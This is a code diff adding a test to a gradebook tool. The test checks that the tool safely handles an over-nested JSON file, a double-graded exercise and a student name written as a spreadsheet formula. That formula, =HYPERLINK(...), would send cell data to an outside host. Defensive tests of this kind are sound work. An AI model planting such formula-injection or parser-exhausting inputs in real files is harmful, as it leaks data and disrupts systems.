@@ -111,6 +111,26 @@ def test_every_file_has_a_row_and_every_doubtful_one_is_flagged(tmp_path):
     assert sorted(os.listdir(tmp_path / "out")) == ["book.csv", "book.md"]  # no temporary file left
 
 
+def test_hostile_or_odd_files_are_rows_not_tracebacks(tmp_path):
+    """A JSON nested deeper than Python parses is 'cannot be read'; an exercise graded twice (a backup folder beside
+    it, from an older checker) is flagged; a student name a spreadsheet would run as a formula is written as text."""
+    folder = tmp_path / "class"
+    folder.mkdir()
+    (folder / "deep.json").write_text("[" * 200_000, encoding="utf-8")
+    twice = json.loads(result("Gus", path=folder / "gus.json").read_text(encoding="utf-8"))
+    twice["exercises"].append(dict(twice["exercises"][0], status="failed"))
+    twice["seal"] = check.seal(twice)
+    (folder / "gus.json").write_text(json.dumps(twice), encoding="utf-8")
+    result('=HYPERLINK("http://example.org/?"&A1,"grades")', path=folder / "hal.json")
+    assert check.read_sealed(str(folder / "deep.json"))[1][0].startswith(f"{folder / 'deep.json'} cannot be read")
+    gradebook.gradebook(str(folder), str(tmp_path / "book"), out=lambda line: None)
+    rows = read_csv(tmp_path / "book.csv")
+    assert rows["deep.json"]["flags"] == "cannot be read"
+    assert rows["gus.json"]["flags"] == f"exercise {os.path.basename(DIRS[0])[:2]} graded twice", rows["gus.json"]
+    assert rows["hal.json"]["student"] == "'" + '=HYPERLINK("http://example.org/?"&A1,"grades")'
+    assert rows["hal.json"][f"{os.path.basename(DIRS[2])[:2]} status"] == "not filled"  # plain cells as they were
+
+
 def test_the_command_verifies_with_the_signing_key_and_says_where_it_wrote(tmp_path):
     result("Ann", key="the teacher's key", path=tmp_path / "ann.json")
     env = {k: v for k, v in os.environ.items() if k != check.SIGNING_KEY_VAR}
